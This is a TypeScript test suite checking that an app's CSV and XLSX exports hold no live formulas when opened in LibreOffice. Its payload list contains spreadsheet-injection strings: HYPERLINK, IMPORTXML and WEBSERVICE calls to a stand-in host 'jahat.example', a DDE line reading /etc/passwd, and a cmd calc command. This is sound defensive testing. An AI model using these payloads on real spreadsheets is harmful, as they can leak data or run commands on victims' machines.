import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import type { INestApplicationContext } from '@nestjs/common';
import { TableExports, TableStore, type ExportedFile } from '#lib/datastore';
import { ObjectStore } from '#lib/storage';
import { column, copyRows, openDatastore } from '../support/datastore.js';
import { convertWithOffice, withOffice } from '../support/office.js';
import { readFileAt } from '../support/read-table.js';
import { emptyDatabase } from '../support/test-environment.js';

/** 200 texts that a spreadsheet must not run, and some that only look like them. */
function payloads(): string[] {
  const starts = [
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    "'=",
    "''=",
    '＝',
    '＋',
    '－',
    '＠',
    '=+',
    '-=',
    '@=',
    '"=',
    ' =',
  ];
  const bodies = [
    '1+1',
    'SUM(A1:A9)',
    'HYPERLINK("http://jahat.example/?"&A1;"klik")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("http://jahat.example";"//a")',
    'WEBSERVICE("http://jahat.example")',
    'DDE("soffice";"/etc/passwd";"x")',
    '2,5',
    'A1',
    '-1',
    'Aisyiyah',
    '"tanda kutip"',
    'baris\ndua',
  ];
  const all = starts.flatMap((start) => bodies.map((body) => start + body));
  return [...all.slice(0, 197), '_x003D_1+1', '-', '...'];
}

const columns = [
  column('teks', 'text'),
  column('bulat', 'integer'),
  column('nilai', 'number'),
  column('tanggal', 'date'),
  column('waktu', 'timestamp'),
  column('ya', 'boolean'),
  // Tells rows apart whose texts differ in spaces or an apostrophe alone.
  column('kode', 'text'),
];
const reasons = ['nil', 'not-available', 'not-applicable', 'withheld'];
const texts = payloads();
type Row = (string | null | Record<string, string>)[];
const rows = (
  [
    ...texts.map((text, index): Row => {
      const number = index - 100;
      return [
        text,
        String(number),
        (number / 8).toString(),
        '2024-01-31',
        '2024-01-31 13:45:10',
        'true',
        null,
      ];
    }),
    ['batas', '999999999999999', '123456789.123456', '1899-12-31', '1899-12-31 01:00:00', 'false', null],
    [
      'di luar batas',
      '-9223372036854775808',
      '0.1234567890123456789',
      '9999-12-31',
      '2024-01-31 13:45:10',
      'false',
      null,
    ],
    ...reasons.map((reason): Row => [
      `tanpa ${reason}`,
      null,
      null,
      null,
      null,
      null,
      { bulat: reason, nilai: reason },
    ]),
    ['tanpa alasan', null, null, null, null, null, null],
  ] satisfies Row[]
).map((row, index): Row => [...row.slice(0, 6), `K${String(index + 1)}`, row[6] ?? null]);

describe('downloads', () => {
  let context: INestApplicationContext;
  let files: ExportedFile[];
  let folder: string;
  const pathOf = (format: string) => join(folder, `unduhan.${format}`);

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'lumbung-downloads-'));
    context = await openDatastore();
    await emptyDatabase();
    const versionId = randomUUID();
    const table = `r_${versionId.replaceAll('-', '')}`;
    const { rowCount } = await context.get(TableStore).load(table, columns, copyRows(rows), true);
    const request = {
      versionId,
      table,
      columns,
      hasAbsences: true,
      rowCount,
      baseName: 'unduhan',
      title: 'x_x0041_y',
      description: '',
    };
    files = await context.get(TableExports).make(request);
    for (const { format, objectKey } of files) {
      writeFileSync(pathOf(format), await buffer(await context.get(ObjectStore).get(objectKey)));
    }
  });
  afterAll(async () => {
    rmSync(folder, { recursive: true, force: true });
    await context.close();
  });

  /** What LibreOffice makes of a file: its cells as FODS, attributes and all. */
  async function inOffice(format: string, options: string[]): Promise<string> {
    const made = join(folder, `dari-${format}`);
    await convertWithOffice([pathOf(format)], 'fods', made, options);
    return readFileSync(join(made, 'unduhan.fods'), 'utf8');
  }

  const formulasIn = (fods: string) =>
    [...fods.matchAll(/table:formula="([^"]*)"/g)].map((found) => found[1] ?? '');

  withOffice(
    'of CSV hold no formula for LibreOffice, though it is told to look for them',
    async () => {
      // Token 15 of the filter: formulas are to be run.
      const text = await inOffice('csv', [
        '--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true,true,true',
      ]);
      expect(formulasIn(text)).toEqual([]);
      expect(text).toContain('office:value="-12.5"');
      expect(text).toContain('office:value="-100"');
      expect(text.match(/<table:table-row/g)?.length).toBeGreaterThan(rows.length);
    },
    240_000,
  );

  withOffice(
    'of XLSX hold no formula, their numbers and texts as they were',
    async () => {
      const text = await inOffice('xlsx', []);
      // LibreOffice has no yes and no of its own: it makes formulas of them.
      expect(formulasIn(text).filter((formula) => !/^of:=(?:TRUE|FALSE)\(\)$/.test(formula))).toEqual([]);
      for (const value of ['-100', '-12.5', '99', '12', '999999999999999', '123456789.123456']) {
        expect(text).toContain(`office:value="${value}"`);
      }
      expect(text).toContain('<text:p>_x003D_1+1</text:p>');
      expect(text).toContain('<text:p>x_x0041_y</text:p>');
      expect(text).toContain('office:date-value="2024-01-31"');
    },
    240_000,
  );

  /**
   * Spaces around a cell are taken off when it is read, and so is an apostrophe before what would be a formula: in a CSV it is
   * ours; a workbook has no need of one, and there it goes too.
   */
  const asRead = (value: Row[number] | undefined, format: string) => {
    const text = typeof value === 'string' ? value.trim() : '';
    return format === 'xlsx' ? text.replace(/^'(?='*=)/, '') : text;
  };

  it.each(['csv', 'xlsx'] as const)('of %s are read back to the same values and reasons', async (format) => {
    const { reading, rows: found } = await readFileAt(pathOf(format), format, {
      columns: columns.map(({ type }, index) => ({
        position: index + 1,
        type,
        numberStyle: 'plain' as const,
      })),
      answers: {
        'symbol:dash': 'nil',
        'symbol:na': 'not-applicable',
        'symbol:x': 'withheld',
      },
    });
    expect(reading.rowCount).toBe(rows.length);
    expect(reading.problems.filter(({ severity }) => severity === 'error')).toEqual([]);
    found.forEach((cells, index) => {
      const row = rows[index]!;
      expect(cells.slice(0, 7)).toEqual(row.slice(0, 7).map((value) => asRead(value, format)));
      const absent: unknown = cells[7] === '' ? null : JSON.parse(cells[7] ?? 'null');
      expect([row[0], absent]).toEqual([row[0], row[7]]);
    });
  });
});
